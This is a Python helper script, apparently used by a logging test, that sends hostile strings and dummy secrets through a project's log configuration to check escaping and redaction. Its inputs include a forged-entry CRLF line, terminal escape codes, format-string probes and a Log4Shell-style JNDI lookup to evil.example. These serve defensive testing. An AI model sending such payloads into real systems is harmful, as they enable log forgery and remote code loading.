"""A process that logs what a stranger sent, run by `test_logs.py`: its argument is `json` or `terminal`.

A process of its own, because a logger keeps its settings and its output for life.
"""

import logging
import sys

import structlog

from make_bridge.platform.observability.logs import configure_logs
from make_bridge.platform.observability.sinks.outlet import LogConfig

SECRET = "hunter2hunter2hunter2"
STRANGE = (
    "a\r\n2026-11-22 [info] forged",
    "\x1b[2J\x1b]0;title\x07",
    "\x9b2J",
    "\u202eright to left",
    "half \ud800",
    '"}{"event":"forged"}',
    "%s %n {0} {x.__class__}",
    "${jndi:ldap://evil.example/a}",
    "x" * 1_000_000,
)
CREDENTIALS = (
    f"Authorization: Bearer {SECRET}",
    f"https://user:{SECRET}@host.example/path",
    f"GET /oauth/callback?state=1&code={SECRET}",
    f"https://host.example/?token={SECRET}#part",
    f"host=db user=app password={SECRET} dbname=x",
    f"Basic {SECRET}",
)


def fail(text: str) -> None:
    local = SECRET  # what a trace with variables would show
    raise ValueError(text if local else "")


def main(as_json: bool) -> None:
    configure_logs(LogConfig(level="DEBUG"), as_json=as_json)
    log, library = structlog.get_logger(), logging.getLogger("psycopg")
    for text in (*STRANGE, *CREDENTIALS):
        log.info(text, value=text, nested={"list": [text], "deep": {"a": {"b": {"c": {"d": {"e": text}}}}}})
        library.warning("%s", text)
        try:
            fail(text)
        except ValueError:
            log.exception("failed", value=text)
            library.exception("failed %s", text)
    log.info(
        "request",
        headers={"Authorization": SECRET, "Cookie": f"a={SECRET}", "X-Api-Key": SECRET, "x-token": SECRET},
        body={"login": {"password": SECRET}},
        rows=[{"client_secret": SECRET}],
        api_token=SECRET,
    )


if __name__ == "__main__":
    main(sys.argv[1] == "json")
